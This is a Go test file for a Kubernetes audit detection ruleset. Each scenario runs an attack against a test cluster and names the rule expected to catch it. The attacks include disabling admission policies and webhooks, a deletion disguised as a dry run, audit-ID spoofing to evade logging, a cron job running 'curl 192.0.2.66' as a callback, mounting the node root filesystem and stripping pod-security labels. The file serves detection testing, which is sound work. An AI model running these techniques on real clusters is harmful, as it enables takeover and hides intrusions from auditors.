package kube

import (
	"errors"
	"fmt"
	"net/http"
	"strings"

	authenticationv1 "k8s.io/api/authentication/v1"
	certificatesv1 "k8s.io/api/certificates/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/rest"
)

// attacksOnCluster are attacks on what guards the cluster: admission, certificates, nodes, names, protections.
var attacksOnCluster = []scenario{
	{
		name: "admission policy weakened and removed",
		act: func(s *scene) {
			s.create("kubernetes-admin", "{apiVersion: admissionregistration.k8s.io/v1, kind: ValidatingAdmissionPolicy, metadata: {name: no-latest}, spec: {failurePolicy: Fail, matchConstraints: {resourceRules: [{operations: [CREATE], apiGroups: [registry.example], apiVersions: [v1], resources: [things]}]}, validations: [{expression: 'true'}]}}")
			s.create("kubernetes-admin", "{apiVersion: admissionregistration.k8s.io/v1, kind: ValidatingAdmissionPolicyBinding, metadata: {name: no-latest}, spec: {policyName: no-latest, validationActions: [Deny]}}")
			c := s.as("mallory").AdmissionregistrationV1()
			s.done(c.ValidatingAdmissionPolicyBindings().Patch(ctx(), "no-latest", types.MergePatchType, []byte(`{"spec":{"validationActions":["Audit"]}}`), metav1.PatchOptions{}))
			s.ok(c.ValidatingAdmissionPolicies().Delete(ctx(), "no-latest", metav1.DeleteOptions{}))
		},
		want: []want{
			{rule: "Admission policy changed or removed", user: "mallory", target: "no-latest", fields: fields{"ka.verb": "patch"}},
			{rule: "Admission policy changed or removed", user: "mallory", target: "no-latest", fields: fields{"ka.verb": "delete"}},
		},
	},
	{
		name: "admission policy violated",
		act: func(s *scene) {
			s.guardImages()
			s.refusedAtLast("alice", podOf("guarded", "evil", "evil.example/miner:1"))
		},
		want: []want{{rule: "Admission policy violated", user: "alice", fields: fields{"ka.target.namespace": "guarded"}}},
	},
	{
		name: "deletion disguised as a dry run",
		// The API server takes the options of a deletion from the body when there is one, and not from the address.
		act: func(s *scene) {
			s.create("kubernetes-admin", webhookConfiguration("Validating", "watchman"))
			s.status(http.StatusOK, "mallory", http.MethodDelete, "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/watchman?dryRun=All",
				"application/json", `{"kind":"DeleteOptions","apiVersion":"v1"}`)
			s.status(http.StatusNotFound, "kubernetes-admin", http.MethodGet, "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/watchman", "", "")
		},
		want: []want{
			{rule: "Admission webhook added", user: "kubernetes-admin", target: "watchman"},
			{rule: "Admission webhook configuration changed", user: "mallory", target: "watchman", fields: fields{"ka.verb": "delete"}},
		},
	},
	{
		name: "client certificate requested and approved",
		act: func(s *scene) {
			made, err := s.as("mallory").CertificatesV1().CertificateSigningRequests().Create(ctx(), &certificatesv1.CertificateSigningRequest{
				ObjectMeta: metav1.ObjectMeta{Name: "spare-key"},
				Spec: certificatesv1.CertificateSigningRequestSpec{
					Request: s.request("kubernetes-admin", "kubeadm:cluster-admins"), SignerName: certificatesv1.KubeAPIServerClientSignerName,
					Usages: []certificatesv1.KeyUsage{certificatesv1.UsageClientAuth},
				},
			}, metav1.CreateOptions{})
			s.ok(err)
			s.approve("mallory", made)
		},
		want: []want{
			{rule: "Certificate of a privileged identity requested", user: "mallory", target: "spare-key"},
			{rule: "Client certificate approved by hand", user: "mallory", target: "spare-key"},
		},
	},
	{
		// The API server cannot write the event of a patch in YAML whose body is recorded, and without the flags of the
		// wiring it loses the whole batch with it.
		name: "others hidden by an event that cannot be written",
		act: func(s *scene) {
			s.create("mallory", pod("shop", "hidden-first", "hostPID: true"))
			s.status(http.StatusCreated, "mallory", http.MethodPatch, "/api/v1/namespaces/shop/configmaps/unwritable?fieldManager=curl", string(types.ApplyYAMLPatchType),
				"apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: unwritable\ndata:\n  key: value\n")
			s.create("mallory", pod("shop", "hidden-second", "hostPID: true"))
		},
		want: []want{
			{rule: "Pod joins the host's process or IPC namespace", user: "mallory", target: "hidden-first"},
			{rule: "Pod joins the host's process or IPC namespace", user: "mallory", target: "hidden-second"},
		},
	},
	{
		// Clients choose the audit ids of their requests.
		name: "attack under the audit id of something harmless",
		act: func(s *scene) {
			id := s.newEvent()
			client := s.as("mallory", func(c *rest.Config) {
				c.Wrap(func(next http.RoundTripper) http.RoundTripper { return fixedID{next, id} })
			})
			for range 2 {
				s.done(client.CoreV1().Pods("shop").List(ctx(), metav1.ListOptions{}))
				s.done(client.CoreV1().ServiceAccounts("ci").CreateToken(ctx(), "deployer", &authenticationv1.TokenRequest{}, metav1.CreateOptions{}))
			}
		},
		want: []want{
			{rule: "Service account token requested by hand", user: "mallory", target: "deployer"},
			{rule: "Service account token requested by hand", user: "mallory", target: "deployer"},
		},
	},
	{
		name: "program with an odd name",
		act: func(s *scene) {
			s.done(s.withAgent("mallory", oddAgent).CoreV1().ServiceAccounts("ci").CreateToken(ctx(), "deployer", &authenticationv1.TokenRequest{}, metav1.CreateOptions{}))
		},
		want: []want{{rule: "Service account token requested by hand", user: "mallory", fields: fields{"ka.useragent": oddAgent}}},
	},
	{
		name: "node registered by hand",
		act: func(s *scene) {
			s.create("mallory", "{apiVersion: v1, kind: Node, metadata: {name: node-9}}")
		},
		want: []want{{rule: "Node registered by somebody else", user: "mallory", target: "node-9"}},
	},
	{
		name: "node joins under another's name",
		act: func(s *scene) {
			s.refused(s.tryCreate("system:node:"+otherNode, "{apiVersion: v1, kind: Node, metadata: {name: node-7}}"))
		},
		want: []want{{rule: "Node's identity reaches beyond its node", user: "system:node:" + otherNode, target: "node-7"}},
	},
	{
		name: "node writes to another node",
		act: func(s *scene) {
			s.refused(s.as("system:node:"+otherNode).CoreV1().Nodes().Patch(ctx(), node, types.StrategicMergePatchType, []byte(`{"metadata":{"labels":{"zone":"x"}}}`), metav1.PatchOptions{}))
		},
		want: []want{{rule: "Node's identity reaches beyond its node", user: "system:node:" + otherNode, target: node}},
	},
	{
		name: "node lists all secrets",
		act: func(s *scene) {
			s.refused(s.as("system:node:"+otherNode).CoreV1().Secrets("").List(ctx(), metav1.ListOptions{}))
		},
		want: []want{{rule: "Node's identity reaches beyond its node", user: "system:node:" + otherNode}},
	},
	{
		name: "node gets another address",
		act: func(s *scene) {
			s.done(s.as("mallory").CoreV1().Nodes().Patch(ctx(), otherNode, types.StrategicMergePatchType, []byte(`{"status":{"addresses":[{"type":"InternalIP","address":"192.0.2.66"}]}}`), metav1.PatchOptions{}, "status"))
		},
		want: []want{{rule: "Address of a node changed by somebody else", user: "mallory", target: otherNode}},
	},
	{
		name: "static pod by no node",
		act: func(s *scene) {
			s.create("mallory", "{apiVersion: v1, kind: Pod, metadata: {name: etcd-backup, namespace: shop, annotations: {kubernetes.io/config.mirror: abc}}, spec: {nodeName: node-1, containers: [{name: app, image: registry.example/app:1.4}]}}")
		},
		want: []want{{rule: "Unknown static pod", user: "mallory", target: "etcd-backup"}},
	},
	{
		name: "names of the cluster steered elsewhere",
		act: func(s *scene) {
			s.create("kubernetes-admin", "{apiVersion: v1, kind: ConfigMap, metadata: {name: coredns, namespace: kube-system}, data: {Corefile: '.:53 { forward . /etc/resolv.conf }'}}")
			s.done(s.as("mallory").CoreV1().ConfigMaps("kube-system").Patch(ctx(), "coredns", types.MergePatchType, []byte(`{"data":{"Corefile":".:53 { forward . 192.0.2.66 }"}}`), metav1.PatchOptions{}))
		},
		want: []want{{rule: "Configuration of the cluster changed", user: "mallory", target: "coredns"}},
	},
	{
		name: "daemon set among the system's",
		act: func(s *scene) {
			s.create("mallory", "{apiVersion: apps/v1, kind: DaemonSet, metadata: {name: node-exporter, namespace: kube-system}, spec: {selector: {matchLabels: {app: x}}, template: {metadata: {labels: {app: x}}, spec: {containers: [{name: app, image: registry.example/x:1}]}}}}")
		},
		want: []want{{rule: "Workload of a system namespace written", user: "mallory", target: "node-exporter"}},
	},
	{
		name: "deployment of the system changed by a developer",
		act: func(s *scene) {
			s.create("kubernetes-admin", deployment("kube-system", "coredns", "1"))
			s.done(s.as("mallory").AppsV1().Deployments("kube-system").Patch(ctx(), "coredns", types.StrategicMergePatchType, []byte(`{"spec":{"template":{"spec":{"containers":[{"name":"app","image":"evil.example/coredns:1"}]}}}}`), metav1.PatchOptions{}))
		},
		want: []want{{rule: "Workload of a system namespace written", user: "mallory", target: "coredns"}},
	},
	{
		name: "cron job as a way back",
		act: func(s *scene) {
			s.create(deployer, "{apiVersion: batch/v1, kind: CronJob, metadata: {name: cleanup, namespace: shop}, spec: {schedule: '*/5 * * * *', jobTemplate: {spec: {template: {spec: {restartPolicy: Never, containers: [{name: app, image: registry.example/tools:1, command: [sh, -c, curl 192.0.2.66]}]}}}}}}")
		},
		want: []want{{rule: "Cron job created by a service account", user: deployer, target: "cleanup"}},
	},
	{
		name: "pod security violated",
		act: func(s *scene) {
			s.namespace("kubernetes-admin", "strict", "pod-security.kubernetes.io/enforce: baseline")
			s.refused(s.tryCreate("mallory", podWith("strict", "too-strong", privileged)))
		},
		want: []want{{rule: "Pod refused by the pod security standard", user: "mallory", target: "too-strong"}},
	},
	{
		name: "pod security of a namespace weakened",
		act: func(s *scene) {
			s.done(s.as("mallory").CoreV1().Namespaces().Patch(ctx(), "strict", types.MergePatchType, []byte(`{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}`), metav1.PatchOptions{}))
		},
		want: []want{{rule: "Pod security of a namespace weakened", user: "mallory", target: "strict"}},
	},
	{
		name: "pod security of a namespace taken away in many ways",
		act: func(s *scene) {
			for _, patch := range []struct {
				kind types.PatchType
				body string
			}{
				{types.MergePatchType, `{"metadata":{"labels":null}}`},
				{types.StrategicMergePatchType, `{"metadata":{"labels":{"$patch":"replace"}}}`},
				{types.JSONPatchType, `[{"op":"replace","path":"/metadata/labels","value":{}}]`},
				{types.JSONPatchType, `[{"op":"remove","path":"\/metadata\/labels\/pod\u002dsecurity.kubernetes.io~\u0031enforce"}]`},
			} {
				s.done(s.as("kubernetes-admin").CoreV1().Namespaces().Patch(ctx(), "strict", types.MergePatchType, []byte(`{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"baseline"}}}`), metav1.PatchOptions{}))
				left, err := s.as("mallory").CoreV1().Namespaces().Patch(ctx(), "strict", patch.kind, []byte(patch.body), metav1.PatchOptions{})
				s.ok(err)
				if _, ok := left.Labels["pod-security.kubernetes.io/enforce"]; ok {
					s.ok(errors.New("the label is still there after " + patch.body))
				}
			}
		},
		want: []want{
			{rule: "Pod security of a namespace weakened", user: "mallory", target: "strict"},
			{rule: "Pod security of a namespace weakened", user: "mallory", target: "strict"},
			{rule: "Pod security of a namespace weakened", user: "mallory", target: "strict"},
			{rule: "Pod security of a namespace weakened", user: "mallory", target: "strict"},
		},
	},
	{
		// The status of a namespace carries its labels too, and pod security does not look at it.
		name: "pod security of a namespace taken away by way of its status",
		act: func(s *scene) {
			s.done(s.as("kubernetes-admin").CoreV1().Namespaces().Patch(ctx(), "strict", types.MergePatchType, []byte(`{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"baseline"}}}`), metav1.PatchOptions{}))
			left, err := s.as("mallory").CoreV1().Namespaces().Patch(ctx(), "strict", types.MergePatchType, []byte(`{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":null}}}`), metav1.PatchOptions{}, "status")
			s.ok(err)
			if _, ok := left.Labels["pod-security.kubernetes.io/enforce"]; ok {
				s.ok(errors.New("the label is still there"))
			}
		},
		want: []want{{rule: "Pod security of a namespace weakened", user: "mallory", target: "strict"}},
	},
	{
		name: "namespace replaced by one without pod security",
		act: func(s *scene) {
			namespace, err := s.as("mallory").CoreV1().Namespaces().Get(ctx(), "strict", metav1.GetOptions{})
			s.ok(err)
			namespace.Labels = nil
			s.done(s.withAgent("mallory", "kubectl/v1.36.3").CoreV1().Namespaces().Update(ctx(), namespace, metav1.UpdateOptions{}))
		},
		want: []want{{rule: "Namespace replaced by one without a Pod Security Standard", user: "mallory", target: "strict"}},
	},
	{
		name: "webhook made forgiving with a stolen token",
		act: func(s *scene) {
			s.create("kubernetes-admin", "{apiVersion: admissionregistration.k8s.io/v1, kind: ValidatingWebhookConfiguration, metadata: {name: guard}, webhooks: [{name: guard.example.com, failurePolicy: Fail, sideEffects: None, admissionReviewVersions: [v1], clientConfig: {service: {namespace: shop, name: guard}}, rules: [{operations: [CREATE], apiGroups: [example.com], apiVersions: [v1], resources: [widgets]}]}]}")
			s.create("otto", clusterRole("guard-patcher", `[patch]`, `[admissionregistration.k8s.io]`, `[validatingwebhookconfigurations]`))
			s.create("otto", clusterRoleBinding("guard-patcher", "guard-patcher", "User", "system:serviceaccount:ci:deployer"))
			s.allowed("system:serviceaccount:ci:deployer", "", "patch", "validatingwebhookconfigurations.admissionregistration.k8s.io", "guard")
			s.done(s.as("system:serviceaccount:ci:deployer").AdmissionregistrationV1().ValidatingWebhookConfigurations().Patch(ctx(), "guard", types.StrategicMergePatchType, []byte(`{"webhooks":[{"name":"guard.example.com","failurePolicy":"Ignore"}]}`), metav1.PatchOptions{}))
			s.ok(s.as("kubernetes-admin").AdmissionregistrationV1().ValidatingWebhookConfigurations().Delete(ctx(), "guard", metav1.DeleteOptions{}))
		},
		want: []want{
			{rule: "Admission webhook added", user: "kubernetes-admin", target: "guard"},
			{rule: "Admission webhook configuration changed", user: "system:serviceaccount:ci:deployer", target: "guard"},
			{rule: "Admission webhook configuration changed", user: "kubernetes-admin", target: "guard"},
		},
	},
	{
		name: "everything of a kind deleted behind an empty selector",
		act: func(s *scene) {
			s.status(http.StatusOK, "mallory", http.MethodDelete, "/api/v1/namespaces/strict/configmaps?labelSelector=", "", "")
			s.status(http.StatusOK, "mallory", http.MethodDelete, "/api/v1/namespaces/strict/configmaps?labelSelector=%21zz", "", "")
		},
		want: []want{
			{rule: "Everything of a kind deleted", user: "mallory", fields: fields{"ka.uri": "/api/v1/namespaces/strict/configmaps?labelSelector="}},
			{rule: "Everything of a kind deleted", user: "mallory", fields: fields{"ka.uri": "/api/v1/namespaces/strict/configmaps?labelSelector=%21zz"}},
		},
	},
	{
		name: "everything of a kind deleted",
		act: func(s *scene) {
			s.ok(s.as("mallory").CoreV1().ConfigMaps("strict").DeleteCollection(ctx(), metav1.DeleteOptions{}, metav1.ListOptions{}))
		},
		want: []want{{rule: "Everything of a kind deleted", user: "mallory", fields: fields{"ka.target.resource": "configmaps", "ka.target.namespace": "strict"}}},
	},
	{
		name: "protection removed",
		act: func(s *scene) {
			s.create("kubernetes-admin", "{apiVersion: networking.k8s.io/v1, kind: NetworkPolicy, metadata: {name: deny, namespace: strict}, spec: {podSelector: {}, policyTypes: [Ingress]}}")
			s.ok(s.as("mallory").NetworkingV1().NetworkPolicies("strict").Delete(ctx(), "deny", metav1.DeleteOptions{}))
		},
		want: []want{{rule: "Protection removed", user: "mallory", target: "deny"}},
	},
	{
		name: "network policy that lets everything through",
		act: func(s *scene) {
			s.create("mallory", "{apiVersion: networking.k8s.io/v1, kind: NetworkPolicy, metadata: {name: open, namespace: strict}, spec: {podSelector: {}, ingress: [{}]}}")
		},
		want: []want{{rule: "Network policy lets everything through", user: "mallory", target: "open"}},
	},
	{
		name: "address of somebody else taken over",
		act: func(s *scene) {
			s.create("mallory", "{apiVersion: v1, kind: Service, metadata: {name: resolver, namespace: shop}, spec: {selector: {app: web}, externalIPs: [192.0.2.53], ports: [{port: 53, protocol: UDP}]}}")
		},
		want: []want{{rule: "Service takes over an address", user: "mallory", target: "resolver"}},
	},
	{
		name: "endpoints written by hand",
		act: func(s *scene) {
			s.create("mallory", "{apiVersion: discovery.k8s.io/v1, kind: EndpointSlice, metadata: {name: cart-extra, namespace: shop, labels: {kubernetes.io/service-name: cart}}, addressType: IPv4, ports: [{port: 80}], endpoints: [{addresses: [10.244.0.66]}]}")
		},
		want: []want{{rule: "Endpoints written by hand", user: "mallory", target: "cart-extra"}},
	},
	{
		name: "volume of the node's root",
		act: func(s *scene) {
			s.create("mallory", "{apiVersion: v1, kind: PersistentVolume, metadata: {name: host-root}, spec: {capacity: {storage: 1Gi}, accessModes: [ReadWriteOnce], hostPath: {path: /}}}")
		},
		want: []want{{rule: "Volume made of a path of the nodes", user: "mallory", target: "host-root"}},
	},
	{
		name: "local volume of the node's root",
		act: func(s *scene) {
			s.create("mallory", "{apiVersion: v1, kind: PersistentVolume, metadata: {name: local-root}, spec: {capacity: {storage: 1Gi}, accessModes: [ReadWriteOnce], local: {path: /}, nodeAffinity: {required: {nodeSelectorTerms: [{matchExpressions: [{key: kubernetes.io/hostname, operator: In, values: [node-1]}]}]}}}}")
		},
		want: []want{{rule: "Volume made of a path of the nodes", user: "mallory", target: "local-root"}},
	},
	{
		name: "everything of a kind deleted as if by a dry run",
		act: func(s *scene) {
			s.create("kubernetes-admin", "{apiVersion: v1, kind: Secret, metadata: {name: kept, namespace: strict}, stringData: {a: b}}")
			s.status(http.StatusOK, "mallory", http.MethodDelete, "/api/v1/namespaces/strict/secrets?dryRun=All", "application/json", `{"kind":"DeleteOptions","apiVersion":"v1"}`)
			s.status(http.StatusNotFound, "kubernetes-admin", http.MethodGet, "/api/v1/namespaces/strict/secrets/kept", "", "")
		},
		want: []want{{rule: "Everything of a kind deleted", user: "mallory", fields: fields{"ka.target.resource": "secrets"}}},
	},
	{
		name: "pod reached past network policies",
		act: func(s *scene) {
			// Nothing listens at the pod's address: what counts is that the request was let through to there.
			s.raw("mallory", http.MethodGet, "/api/v1/namespaces/shop/services/nothing/proxy/admin", "", "")
		},
		want: []want{{rule: "Pod or service reached through the API server", user: "mallory", target: "nothing"}},
	},
	{
		name: "anonymous caller asks for secrets",
		act: func(s *scene) {
			s.refused(s.as(anonymous).CoreV1().Secrets("shop").List(ctx(), metav1.ListOptions{}))
		},
		want: []want{{rule: "Anonymous caller refused something valuable", user: anonymous}},
	},
	{
		name: "token of a controller used by hand",
		act: func(s *scene) {
			s.refused(s.withAgent(controllers+"deployment-controller", userAgent("mallory")).CoreV1().Secrets("kube-system").List(ctx(), metav1.ListOptions{}))
		},
		want: []want{{rule: "Machine's identity used by hand", user: controllers + "deployment-controller"}},
	},
	{
		name: "attack tool",
		act: func(s *scene) {
			s.refused(s.withAgent("eve", "Mozilla/5.0 (compatible; Nuclei - Open-source project)").CoreV1().Pods("").List(ctx(), metav1.ListOptions{}))
		},
		want: []want{{rule: "Request by an attack tool", user: "eve"}},
	},
	{
		name: "secrets refused to a stolen token",
		act: func(s *scene) {
			s.refused(s.as(deployer).CoreV1().Secrets("vault").List(ctx(), metav1.ListOptions{}))
		},
		want: []want{{rule: "Secrets refused to a service account", user: deployer, fields: fields{"ka.target.namespace": "vault"}}},
	},
	{
		name: "session refused to a stolen token",
		act: func(s *scene) {
			s.create("kubernetes-admin", pod("vault", "keeper", ""))
			s.run("vault", "keeper")
			if _, err := s.exec(deployer, "vault", "keeper", websocket, "sh"); err == nil || !strings.Contains(err.Error(), "is forbidden") {
				s.ok(fmt.Errorf("the session is not forbidden: %w", errOrNone(err)))
			}
		},
		want: []want{{rule: "Session in a pod refused", user: deployer, target: "keeper"}},
	},
}

// oddAgent is the name of a program in the signs that JSON, output templates and log lines are made of.
var oddAgent = `kubectl/v1 "} %ka.user.name \u0041 {{x}} \` + strings.Repeat("ü", 100)

// fixedID gives requests always the same audit id.
type fixedID struct {
	next http.RoundTripper
	id   string
}

func (f fixedID) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.Header.Set("Audit-ID", f.id)
	return f.next.RoundTrip(r)
}

// guardImages has an admission policy that lets no image of evil.example into the namespace guarded.
func (s *scene) guardImages() {
	s.namespace("kubernetes-admin", "guarded")
	s.create("kubernetes-admin", roleBinding("guarded", "developers", "ClusterRole", "edit", "Group", "developers"))
	s.allowed("alice", "guarded", "create", "pods", "")
	s.create("kubernetes-admin", "{apiVersion: admissionregistration.k8s.io/v1, kind: ValidatingAdmissionPolicy, metadata: {name: images}, spec: {failurePolicy: Fail, matchConstraints: {resourceRules: [{operations: [CREATE], apiGroups: [''], apiVersions: [v1], resources: [pods]}]}, "+
		"validations: [{expression: \"object.spec.containers.all(c, !c.image.startsWith('evil.example/'))\", message: image not allowed}]}}")
	s.create("kubernetes-admin", "{apiVersion: admissionregistration.k8s.io/v1, kind: ValidatingAdmissionPolicyBinding, metadata: {name: images}, spec: {policyName: images, validationActions: [Deny], matchResources: {namespaceSelector: {matchLabels: {kubernetes.io/metadata.name: guarded}}}}}")
}

func podOf(namespace, name, image string) string {
	return fmt.Sprintf("{apiVersion: v1, kind: Pod, metadata: {name: %s, namespace: %s}, spec: {containers: [{name: app, image: '%s'}]}}", name, namespace, image)
}
